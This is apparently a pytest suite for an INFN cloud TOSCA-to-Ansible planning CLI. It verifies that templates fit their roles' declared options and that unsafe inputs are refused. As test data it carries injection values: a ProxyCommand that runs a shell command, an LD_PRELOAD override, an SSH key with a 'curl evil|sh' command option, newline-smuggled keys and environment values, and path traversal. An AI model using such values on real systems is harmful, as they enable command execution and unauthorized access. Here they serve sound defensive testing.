"""The template-to-role contract checked at plan time (infn_cloud/tosca/contract.py).

Catalogue templates plan with their defaults plus the inputs a user must supply, and with each
`valid_values` choice of every input; every refusal goes through the real CLI (exit 2, the
message names the node, where the value came from, the role option and what is allowed).
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from catalogue_inputs import OTHER_MODE_INPUTS, USER_INPUTS, user_inputs

from infn_cloud.secrets.base import SecretStore
from infn_cloud.secrets.generate import CannotGenerate, generate_for
from infn_cloud.tosca import contract, make_plan, validate

REPO = Path(__file__).resolve().parents[3]
CATALOGUE = sorted(p.stem for p in (REPO / "tosca_templates").glob("*.yaml"))


# -- the catalogue ------------------------------------------------------------------------
@pytest.mark.parametrize("name", CATALOGUE)
def test_validate_lists_exactly_the_inputs_a_user_must_supply(name):
    report = validate(name)
    assert report.errors == []
    assert {e["name"] for e in report.required_inputs} == set(USER_INPUTS.get(name, {}))


@pytest.mark.parametrize("name", CATALOGUE)
def test_catalogue_template_fits_its_roles(name):
    plan = make_plan(name, user_inputs(name))
    assert plan["software"] and all(s["role"].startswith("infn.cloud.") for s in plan["software"])


def _choices():
    for name in CATALOGUE:
        for entry in validate(name).inputs:
            for constraint in entry["constraints"] or []:
                if isinstance(constraint, dict) and "valid_values" in constraint:
                    for choice in constraint["valid_values"]:
                        yield pytest.param(name, entry["name"], choice, id=f"{name}-{entry['name']}-{choice}")


@pytest.mark.parametrize(("name", "input_name", "choice"), list(_choices()))
def test_every_valid_values_choice_fits_the_roles(name, input_name, choice):
    inputs = {**user_inputs(name), input_name: choice}
    other = OTHER_MODE_INPUTS.get(name, {})
    if other.get(input_name) == choice:  # a choice of the other mode comes with what that mode needs
        inputs = {**other, **inputs}
    make_plan(name, inputs)


def test_there_are_choices_to_check():
    assert len(list(_choices())) >= 15


# -- the CLI ------------------------------------------------------------------------------
def plan_cli(*args, cwd=REPO):
    result = subprocess.run(
        [sys.executable, "-m", "infn_cloud", "plan", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "Traceback" not in result.stderr
    return result


def app_template(tmp_path, role, variables, node_properties=None, extra_inputs=None) -> Path:
    """A template whose node type runs `role` with `variables` (our types copied next to it)."""
    (tmp_path / "types").mkdir(exist_ok=True)
    shutil.copy(REPO / "tosca_templates" / "types" / "infn_cloud_types.yaml", tmp_path / "types")
    doc = {
        "tosca_definitions_version": "tosca_simple_yaml_1_0",
        "imports": [{"infn_cloud_types": "types/infn_cloud_types.yaml"}],
        "node_types": {
            "test.nodes.App": {
                "derived_from": "tosca.nodes.SoftwareComponent",
                "interfaces": {"Standard": {"configure": {"implementation": role, "inputs": variables}}},
            }
        },
        "topology_template": {
            "inputs": extra_inputs or {},
            "node_templates": {
                "app": {"type": "test.nodes.App", "requirements": [{"host": "vm"}]},
                "vm": {
                    "type": "infn.cloud.nodes.Compute",
                    "properties": node_properties or {},
                    "capabilities": {
                        "host": {"properties": {"num_cpus": 1, "mem_size": "1 GB"}},
                        "os": {"properties": {"distribution": "debian", "version": "13"}},
                    },
                },
            },
        },
    }
    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return path


def assert_refused(result, *fragments):
    assert result.returncode == 2, result.stdout + result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, f"{fragment!r} not in:\n{result.stderr}"


REFUSED_NAMES = [
    # Each one would run the role on the controller or run a command there (issue #11).
    ("ansible_connection", "local"),
    ("ansible_ssh_common_args", "-o ProxyCommand=sh -c 'id > /tmp/pwned'"),
    ("ANSIBLE_HOST", "127.0.0.1"),
    ("ansible_become_password", "x"),
    ("hostvars", {}),
    ("inventory_hostname", "localhost"),
    ("group_names", []),
    ("play_hosts", []),
    ("omit", "x"),
    ("environment", {"LD_PRELOAD": "/tmp/x.so"}),
    ("delegate_to", "localhost"),
    ("infn_cloud_software", []),
    ("infn_cloud_wave", 0),
]


@pytest.mark.parametrize(("variable", "value"), REFUSED_NAMES, ids=[n for n, _ in REFUSED_NAMES])
def test_reserved_names_are_refused(tmp_path, variable, value):
    path = app_template(tmp_path, "infn.cloud.common", {variable: value, "common_timezone": "Etc/UTC"})
    assert_refused(plan_cli(path), f"node 'app' role option '{variable}'", "is reserved", "ansible_*")


def test_variable_that_is_not_a_name_is_refused(tmp_path):
    path = app_template(tmp_path, "infn.cloud.common", {"common timezone": "Etc/UTC"})
    assert_refused(plan_cli(path), "'common timezone'", "is not a variable name")


def test_undeclared_option_of_our_role_is_refused(tmp_path):
    path = app_template(tmp_path, "infn.cloud.common", {"common_sshd_extra": "PermitRootLogin yes"})
    assert_refused(
        plan_cli(path),
        "node 'app' role option 'common_sshd_extra'",
        "is not an option of infn.cloud.common",
        "ansible-doc -t role infn.cloud.common",
    )


def test_wrong_type_is_refused_as_ansible_would(tmp_path):
    path = app_template(tmp_path, "infn.cloud.common", {"common_ssh_max_auth_tries": "lots"})
    assert_refused(plan_cli(path), "'common_ssh_max_auth_tries'", "infn.cloud.common refuses it", "int")


def test_wrong_choice_names_what_the_role_accepts(tmp_path):
    path = app_template(tmp_path, "infn.cloud.common", {"common_ssh_permit_root_login": "always"})
    assert_refused(plan_cli(path), "'common_ssh_permit_root_login'", "yes, no, prohibit-password")


def test_role_outside_the_collection_is_refused(tmp_path):
    path = app_template(tmp_path, "infn.cloud.nope", {})
    assert_refused(plan_cli(path), "node 'app' implementation 'infn.cloud.nope'", "known: ", "common")


def test_role_option_used_on_the_controller_is_refused(tmp_path):
    variables = {
        "object_storage_ring_fetch_dir": "/root/.ssh",
        "object_storage_hash_path_prefix": "p" * 20,
        "object_storage_hash_path_suffix": "s" * 20,
    }
    path = app_template(tmp_path, "infn.cloud.object_storage", variables)
    assert_refused(plan_cli(path), "'object_storage_ring_fetch_dir'", "on the controller")


@pytest.mark.parametrize("value", ["../../etc/cron.d", "~/notebooks", "notebooks", "/data/../etc"])
def test_path_options_must_be_absolute_paths_on_the_node(tmp_path, value):
    path = app_template(
        tmp_path,
        "infn.cloud.jupyterhub",
        {
            "jupyterhub_notebooks_dir": value,
            "jupyterhub_authenticator": "dummy",
            "jupyterhub_dummy_password": "password-for-tests",
        },
    )
    assert_refused(plan_cli(path), "'jupyterhub_notebooks_dir'", "must be absolute, without '..'")


def _users_inputs(tmp_path, users) -> Path:
    path = tmp_path / "inputs.yaml"
    path.write_text(yaml.safe_dump({"users": users}))
    return path


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@example"


def test_ssh_key_with_an_embedded_newline_is_refused(tmp_path):
    evil = KEY + "\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 mallory@evil"
    inputs = _users_inputs(tmp_path, [{"os_user_name": "alice", "os_user_ssh_public_key": evil}])
    assert_refused(
        plan_cli("single_vm", "-i", inputs),
        "role option 'common_users[].os_user_ssh_public_key' (from property 'users', input 'users')",
        "newline",
    )


@pytest.mark.parametrize(
    "key",
    [
        'command="curl evil|sh" ' + KEY,  # authorized_keys options
        "not-a-key AAAA",
        KEY.replace(" alice@example", "") + " comment\twith tab",
    ],
    ids=["options", "not-a-key", "control-character"],
)
def test_ssh_keys_must_be_one_plain_key(tmp_path, key):
    inputs = _users_inputs(tmp_path, [{"os_user_name": "alice", "os_user_ssh_public_key": key}])
    result = plan_cli("single_vm", "-i", inputs)
    assert_refused(result, "os_user_ssh_public_key")


def test_a_plain_ssh_key_plans(tmp_path):
    inputs = _users_inputs(tmp_path, [{"os_user_name": "alice", "os_user_ssh_public_key": KEY}])
    assert plan_cli("single_vm", "-i", inputs).returncode == 0


def test_compose_env_names_and_single_line_values(tmp_path):
    inputs = tmp_path / "inputs.yaml"
    inputs.write_text(
        yaml.safe_dump(
            {
                **OTHER_MODE_INPUTS["docker_compose"],
                "environment_variables": {"GOOD": "x", "BAD NAME": "y", "MULTI": "a\nEVIL=1"},
            }
        )
    )
    result = plan_cli("docker_compose", "-i", inputs)
    assert_refused(result, "docker_compose_env{}", "an environment variable name", "docker_compose_env.MULTI")
    assert "EVIL" not in result.stderr


def test_newline_in_a_secret_is_refused_without_showing_it(tmp_path):
    inputs = tmp_path / "inputs.yaml"
    inputs.write_text(
        yaml.safe_dump(
            {
                "iam_url": "https://iam.example.org/",
                "oidc_client_id": "c",
                "oidc_client_secret": "topsecretvalue\nEVIL=1",
            }
        )
    )
    result = plan_cli("sync_share", "-i", inputs)
    assert_refused(result, "'sync_share_oidc_client_secret'", "newline")
    assert "topsecretvalue" not in result.stderr + result.stdout


# -- conditional requirements --------------------------------------------------------------
def test_sync_share_defaults_run_their_own_swift_with_generated_secrets():
    plan = make_plan("sync_share", {})
    assert {"s3_secret_key", "s3_hash_path_prefix", "s3_hash_path_suffix", "admin_password"} <= set(
        plan["secrets_to_generate"]
    )
    variables = _vars(plan, "sync_share")
    assert variables["sync_share_s3_endpoint"] == ""  # the role runs Swift on the VM
    assert variables["sync_share_s3_access_key"] == ""  # sync-share:<implementation>
    # The secret key's constraint makes the generated value one Swift's tempauth accepts.
    assert plan["secret_constraints"]["s3_secret_key"] == [{"pattern": "(|[^\\s%#;]{8,})"}]


def test_sync_share_external_endpoint_needs_its_access_key():
    result = plan_cli("sync_share", "--set=s3_endpoint=https://s3.example.org")
    assert_refused(
        result,
        "role option 'sync_share_s3_access_key' (from property 's3_access_key', input 's3_access_key')",
        "required by 'sync_share_s3_endpoint'",
    )


def test_sync_share_own_swift_needs_both_hash_path_secrets(tmp_path):
    path = app_template(
        tmp_path,
        "infn.cloud.sync_share",
        {
            "sync_share_s3_bucket": "files",
            "sync_share_s3_secret_key": "secret-key-1234",
            "sync_share_admin_password": "admin-password-1234",
            "sync_share_local_s3_hash_path_prefix": "prefix-1234",
        },
    )
    assert_refused(
        plan_cli(path),
        "parameters are required together: sync_share_local_s3_hash_path_prefix, "
        "sync_share_local_s3_hash_path_suffix",
    )


def test_sync_share_endpoint_must_be_an_http_url():
    args = [f"--set={k}={v}" for k, v in OTHER_MODE_INPUTS["sync_share"].items()]
    assert_refused(plan_cli("sync_share", *args, "--set=s3_endpoint=ftp://s3.example.org"), "s3_endpoint")


def test_credentials_in_a_url_are_not_shown():
    args = [f"--set={k}={v}" for k, v in OTHER_MODE_INPUTS["sync_share"].items()]
    result = plan_cli("sync_share", *args, "--set=s3_endpoint=https://user:pa55word@s3.example.org")
    assert_refused(result, "'sync_share_s3_endpoint'", "its value is not an http:// or https:// URL")
    assert "pa55word" not in result.stderr + result.stdout


def test_sync_share_iam_url_needs_the_oidc_client():
    args = [f"--set={k}={v}" for k, v in OTHER_MODE_INPUTS["sync_share"].items()]
    result = plan_cli("sync_share", *args, "--set=iam_url=https://iam.example.org/")
    assert_refused(
        result,
        "node 'sync_share' role option 'sync_share_oidc_client_id' (from property 'oidc_client_id', "
        "input 'oidc_client_id')",
        "required by 'sync_share_iam_url'",
        "meta/argument_specs.yml",
    )
    assert (
        plan_cli(
            "sync_share", *args, "--set=iam_url=https://iam.example.org/", "--set=oidc_client_id=c"
        ).returncode
        == 0
    )


def test_jupyterhub_defaults_use_the_dummy_authenticator_with_a_generated_password():
    plan = make_plan("jupyterhub", {})
    variables = _vars(plan, "jupyterhub")
    assert variables["jupyterhub_authenticator"] == "dummy"
    assert "hub_password" in plan["secrets_to_generate"]
    assert plan["outputs"]["hub_password"]["value"] == "secret:hub_password"


def test_jupyterhub_oidc_needs_the_client_id(tmp_path):
    inputs = tmp_path / "inputs.yaml"
    inputs.write_text(yaml.safe_dump({**OTHER_MODE_INPUTS["jupyterhub"], "oauth_client_id": ""}))
    assert_refused(
        plan_cli("jupyterhub", "-i", inputs),
        "role option 'jupyterhub_oauth_client_id' (from property 'oauth_client_id', input 'oauth_client_id')",
        "jupyterhub_authenticator is oidc but all of the following are missing",
    )


def test_jupyterhub_oidc_client_secret_is_refused_not_generated(tmp_path):
    """A generated client secret would deploy a hub whose every login fails at the provider."""
    inputs = tmp_path / "inputs.yaml"
    inputs.write_text(yaml.safe_dump({**OTHER_MODE_INPUTS["jupyterhub"], "oauth_client_secret": ""}))
    assert_refused(
        plan_cli("jupyterhub", "-i", inputs),
        "role option 'jupyterhub_oauth_client_secret' "
        "(from property 'oauth_client_secret', input 'oauth_client_secret')",
        "jupyterhub_authenticator is oidc but all of the following are missing",
    )
    # The other secrets of the template are still generated when left empty.
    plan = make_plan("jupyterhub", {})
    assert "hub_password" in plan["secrets_to_generate"]
    assert "oauth_client_secret" not in plan["secrets_to_generate"]


@pytest.mark.parametrize("client_id", ["jupyterhub-client", ""])
def test_jupyterhub_dummy_refuses_an_oauth_client_when_the_role_starts(tmp_path, client_id):
    """OIDC settings with the template's default authenticator would silently give a shared password."""
    play = _playbook(
        tmp_path,
        "- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.include_role:\n"
        "        name: infn.cloud.jupyterhub\n        tasks_from: validate.yml\n",
    )
    extra = {
        "ansible_facts": {"fqdn": "node.example.org"},
        "jupyterhub_authenticator": "dummy",
        "jupyterhub_dummy_password": "password-1234",
        "jupyterhub_oauth_client_id": client_id,
        "jupyterhub_notebooks_require_mount": False,
    }
    result = _ansible_playbook(tmp_path, play, extra, tags=())
    refused = "jupyterhub_oauth_client_id is set: set jupyterhub_authenticator to 'oidc'"
    output = re.sub(r"\s+", " ", result.stdout + result.stderr)
    if client_id:
        assert result.returncode == 2 and refused in output, output[-2000:]
    else:
        assert result.returncode == 0 and refused not in output, output[-2000:]


def test_jupyterhub_oidc_needs_a_group(tmp_path):
    inputs = tmp_path / "inputs.yaml"
    inputs.write_text(yaml.safe_dump({**OTHER_MODE_INPUTS["jupyterhub"], "iam_groups": []}))
    assert_refused(
        plan_cli("jupyterhub", "-i", inputs),
        "'jupyterhub_iam_groups' (from property 'iam_groups', input 'iam_groups')",
        "'jupyterhub_iam_admin_groups'",
        "any of the following are missing",
    )
    inputs.write_text(
        yaml.safe_dump({**OTHER_MODE_INPUTS["jupyterhub"], "iam_groups": [], "iam_admin_groups": ["a"]})
    )
    assert plan_cli("jupyterhub", "-i", inputs).returncode == 0


def test_every_broken_rule_is_listed(tmp_path):
    path = app_template(
        tmp_path,
        "infn.cloud.jupyterhub",
        {"jupyterhub_certificate_type": "letsencrypt", "jupyterhub_oauth_client_id": ""},
    )
    result = plan_cli(path)
    assert_refused(result, "jupyterhub_oauth_client_id", "jupyterhub_iam_groups", "jupyterhub_acme_email")
    assert result.stderr.count("role option") == 3


@pytest.mark.parametrize(
    ("variables", "expected"),
    [
        (
            {
                "docker_compose_file_url": "https://example.org/c.yml",
                "docker_compose_run": {"image": "busybox"},
            },
            "refuses these together: parameters are mutually exclusive",
        ),
        ({}, "docker_compose_state is present but any of the following are missing"),
    ],
    ids=["url-and-run", "neither"],
)
def test_compose_project_needs_exactly_one_source(tmp_path, variables, expected):
    path = app_template(tmp_path, "infn.cloud.docker_compose", {"docker_compose_project": "web", **variables})
    assert_refused(plan_cli(path), "'docker_compose_file_url'", "'docker_compose_run'", expected)


def test_compose_default_project_and_a_url_plan_together():
    """The template's default content stays when a URL is given: the role uses the URL."""
    default = _vars(make_plan("docker_compose", {}), "docker_compose")
    assert (
        default["docker_compose_file_content"]["services"]["web"]["image"] == "docker.io/library/nginx:stable"
    )
    assert default["docker_compose_file_url"] == ""
    both = _vars(make_plan("docker_compose", OTHER_MODE_INPUTS["docker_compose"]), "docker_compose")
    assert both["docker_compose_file_url"] == "https://example.org/compose.yaml"


def test_requirement_declarations_are_valid_ansible_sub_specs():
    """Every <role>_requirements names only options of its role, as raw mirrors."""
    from ansible.module_utils.common.arg_spec import ArgumentSpecValidator

    found = 0
    for specs in (REPO / "roles").glob("*/meta/argument_specs.yml"):
        role = specs.parent.parent.name
        options, _defaults = contract.role_spec(role)
        view = options.get(contract.requirements_option(role))
        if view is None:
            continue
        found += 1
        assert view["type"] == "dict"
        assert set(view["options"]) <= set(options), role
        assert all(v["type"] == "raw" for v in view["options"].values()), role
        assert all(
            bool(v.get("no_log")) == bool(options[k].get("no_log")) for k, v in view["options"].items()
        )
        ArgumentSpecValidator({"x": view}).validate({"x": {}})  # a spec Ansible accepts
        assert (specs.parent.parent / "vars" / "main.yml").read_text().count(f"{role}_requirements:") == 1
    assert found >= 4


# -- values known later ------------------------------------------------------------------
def test_values_known_after_provisioning_are_placeholders(tmp_path):
    path = app_template(
        tmp_path,
        "infn.cloud.kubernetes",
        {
            "kubernetes_role": "worker",
            "kubernetes_control_plane_address": {"get_attribute": ["vm", "private_address", 0]},
            "kubernetes_api_port": {"get_attribute": ["vm", "private_address", 0]},  # type known later
        },
    )
    assert plan_cli(path).returncode == 0


# -- generated secrets -------------------------------------------------------------------
K8S_TOKEN = re.compile(r"[a-z0-9]{6}\.[a-z0-9]{16}")


class MemoryStore(SecretStore):
    kind = "memory"

    def __init__(self):
        self.values: dict = {}

    def describe(self):
        return "memory"

    def put(self, deployment_id, name, value):
        self.values.setdefault(deployment_id, {})[name] = value

    def get_all(self, deployment_id):
        return dict(self.values.get(deployment_id, {}))

    def delete_deployment(self, deployment_id):
        return self.values.pop(deployment_id, None) is not None

    def _read_keypair(self, deployment_id):
        return None

    def _write_keypair(self, deployment_id, keypair):
        pass


def test_generated_join_token_matches_the_templates_pattern():
    plan = make_plan("kubernetes_cluster")
    assert plan["secrets_to_generate"] == ["join_token"]
    constraints = plan["secret_constraints"]["join_token"]
    store = MemoryStore()
    tokens = {store.ensure_secret(f"dep{i}", "join_token", constraints=constraints) for i in range(50)}
    assert len(tokens) == 50 and all(K8S_TOKEN.fullmatch(t) for t in tokens)
    assert (
        store.ensure_secret("dep0", "join_token", constraints=constraints) in tokens
    )  # kept, not regenerated
    # the plan made with a generated token is accepted by the template and the role
    again = make_plan("kubernetes_cluster", {"join_token": next(iter(tokens))})
    assert again["secrets_to_generate"] == []


@pytest.mark.parametrize(
    ("constraints", "check"),
    [
        ([{"pattern": "(|[a-z0-9]{6}\\.[a-z0-9]{16})"}], lambda v: K8S_TOKEN.fullmatch(v)),
        ([{"pattern": "(|.{12,})"}], lambda v: len(v) >= 12),
        ([{"pattern": "(|[^\\s%#;]{8,})"}], lambda v: re.fullmatch(r"[^\s%#;]{8,}", v)),
        ([{"min_length": 40}], lambda v: len(v) == 40 and v.isalnum()),
        ([{"max_length": 20}], lambda v: len(v) == 20),
        ([{"pattern": "[A-F0-9]{32}"}], lambda v: re.fullmatch("[A-F0-9]{32}", v)),
        ([{"pattern": "^key-\\d{20}$"}], lambda v: re.fullmatch(r"key-\d{20}", v)),
    ],
)
def test_generator_satisfies_simple_constraints(constraints, check):
    for _ in range(20):
        assert check(generate_for(constraints))


@pytest.mark.parametrize(
    ("constraints", "why"),
    [
        ([{"valid_values": ["a", "b"]}], "fixes the value"),
        ([{"pattern": "[0-9]{4}"}], "bits of randomness"),
        ([{"pattern": "(?=a)a{30}"}], "not simple enough"),
        ([{"pattern": "(a)\\1"}], "not simple enough"),
        ([{"length": 8}], "bits of randomness"),
        ([{"min_length": 10, "max_length": 5}], "exclude every length"),
    ],
)
def test_generator_says_when_it_cannot(constraints, why):
    ops = {}
    for c in constraints:
        ops.update(c)
    with pytest.raises(CannotGenerate, match=why):
        generate_for([{k: v} for k, v in ops.items()])


def test_plan_refuses_a_secret_input_the_generator_cannot_satisfy(tmp_path):
    path = app_template(
        tmp_path,
        "infn.cloud.common",
        {"common_timezone": "Etc/UTC"},
        extra_inputs={
            "api_token": {"type": "string", "default": "", "constraints": [{"pattern": "(|[0-9]{4})"}]}
        },
    )
    assert_refused(
        plan_cli(path),
        "input 'api_token': is a secret generated at deploy time, but the generator cannot satisfy it",
        "bits of randomness",
    )


# -- Ansible enforces the same declarations at run time -----------------------------------
def _ansible_env():
    import os

    env = dict(os.environ, ANSIBLE_COLLECTIONS_PATH=str(REPO / ".ansible" / "collections"))
    env.pop("ANSIBLE_CONFIG", None)
    return env


def _playbook(tmp_path, text) -> Path:
    path = tmp_path / "play.yml"
    path.write_text(text)
    return path


def _ansible_playbook(tmp_path, play, extra, tags=("no_task_has_this_tag",)) -> subprocess.CompletedProcess:
    binary = Path(sys.executable).with_name("ansible-playbook")
    return subprocess.run(
        [
            str(binary),
            "-i",
            "localhost,",
            "-c",
            "local",
            str(play),
            *[a for tag in tags for a in ("--tags", tag)],
            "-e",
            json.dumps(extra),
        ],
        cwd=tmp_path,
        env=_ansible_env(),
        capture_output=True,
        text=True,
        timeout=180,
    )


@pytest.mark.parametrize(
    ("role", "extra", "expected"),
    [
        (
            "sync_share",
            {"sync_share_s3_endpoint": "", "sync_share_s3_secret_key": "hidden-value-123"},
            "one of the following is required: sync_share_s3_endpoint, "
            "sync_share_local_s3_hash_path_prefix found in sync_share_requirements",
        ),
        (
            "jupyterhub",
            {"jupyterhub_oauth_client_secret": "hidden-value-123", "jupyterhub_iam_url": "https://i"},
            "jupyterhub_authenticator is oidc but all of the following are missing: "
            "jupyterhub_oauth_client_id",
        ),
    ],
)
def test_ansible_enforces_the_same_declaration_when_the_role_starts(tmp_path, role, extra, expected):
    # Only the role's argument validation runs (it is tagged always); facts are given.
    play = _playbook(tmp_path, f"- hosts: all\n  gather_facts: false\n  roles: [infn.cloud.{role}]\n")
    result = _ansible_playbook(tmp_path, play, {"ansible_facts": {"fqdn": "node.example.org"}, **extra})
    assert result.returncode == 2, result.stdout + result.stderr
    output = result.stdout + result.stderr
    assert expected in re.sub(r"\s+", " ", output)
    assert "hidden-value-123" not in output


def test_apply_entry_refuses_reserved_names_at_run_time(tmp_path):
    """Defence in depth: a document with a reserved variable never reaches set_fact."""
    play = _playbook(
        tmp_path,
        "- hosts: all\n  gather_facts: false\n  vars: {infn_cloud_wave: 0, infn_cloud_entry_index: 0}\n"
        f"  tasks:\n    - ansible.builtin.include_tasks: {REPO}/playbooks/tasks/apply_entry.yml\n",
    )
    software = [
        {"node": "n", "wave": 0, "role": "infn.cloud.common", "vars": {"ansible_connection": "local"}}
    ]
    result = _ansible_playbook(tmp_path, play, {"infn_cloud_software": software}, tags=())
    assert result.returncode == 2
    assert "refused: ansible_connection" in re.sub(r"\s+", " ", result.stdout + result.stderr)
    assert "Set the role variables" not in result.stdout


# -- INFN templates mapped onto our roles (the contract found these mappings wrong) ----------
def _infn_plan(reference, import_map, relative, inputs=None):
    from tosca_testlib import fill_required

    path = reference / "infn-tosca-templates" / relative
    report = validate(path, import_map=import_map)
    return make_plan(path, {**fill_required(report.required_inputs), **(inputs or {})}, import_map=import_map)


def _vars(plan, role):
    return next(e["vars"] for e in plan["software"] if e["role"] == f"infn.cloud.{role}")


def test_infn_htcondor_mini_is_a_pool_of_one(reference, infn_import_map):
    variables = _vars(_infn_plan(reference, infn_import_map, "single-vm/htcondor_mini.yaml"), "htcondor")
    assert variables["htcondor_roles"] == ["central_manager", "submit", "execute"]
    assert variables["htcondor_central_manager"] == {"get_attribute": ["server", "private_address", 0]}
    assert "htcondor_cluster_secret" not in variables and variables["htcondor_run_as_owner"] is True


def test_infn_cloud_storage_service_reads_its_own_property_names(reference, infn_import_map):
    plan = _infn_plan(reference, infn_import_map, "single-vm/cloud_storage_service.yaml")
    variables = _vars(plan, "sync_share")
    for option in ("s3_endpoint", "s3_bucket", "s3_access_key", "s3_secret_key", "admin_password"):
        assert variables[f"sync_share_{option}"] not in (None, ""), option
    assert variables["sync_share_oidc_client_id"] == {"get_attribute": ["iam_client", "client_id"]}
    assert any("IAM dynamic client registration" in w for w in plan["warnings"])


def test_infn_jupyterhub_needs_groups_and_an_acme_contact(reference, infn_import_map):
    from infn_cloud.errors import ValidationError

    with pytest.raises(ValidationError) as info:
        _infn_plan(reference, infn_import_map, "jupyter/jupyter_vm.yaml")
    text = "\n".join(info.value.details)
    assert "'jupyterhub_iam_groups' (from property 'iam_groups', input 'iam_groups')" in text
    assert "'jupyterhub_acme_email' (from property 'contact_email', input 'contact_email')" in text
    plan = _infn_plan(
        reference,
        infn_import_map,
        "jupyter/jupyter_vm.yaml",
        {"iam_groups": "a b", "contact_email": "o@e.org"},
    )
    assert _vars(plan, "jupyterhub")["jupyterhub_iam_groups"] == ["a", "b"]


@pytest.mark.parametrize(
    ("port", "fragment"),
    [
        ({"protocol": "tcp", "source": 8080, "remote_cidr": "not-a-network"}, "remote_cidr 'not-a-network'"),
        (
            {"protocol": "igmp", "source": 8080},
            "protocol 'igmp'",
        ),  # TOSCA allows it, security groups here do not
    ],
)
def test_ports_the_driver_would_open_are_checked_at_plan_time(tmp_path, port, fragment):
    # Before, a bad port spec passed plan and failed at the site's security group (exit 1).
    template = app_template(tmp_path, "infn.cloud.common", {})
    doc = yaml.safe_load(template.read_text())
    vm = doc["topology_template"]["node_templates"]["vm"]
    vm["capabilities"]["endpoint"] = {"properties": {"ports": {"web": port}}}
    template.write_text(yaml.safe_dump(doc, sort_keys=False))
    assert_refused(plan_cli(template), "node vm: ports[0]", fragment)
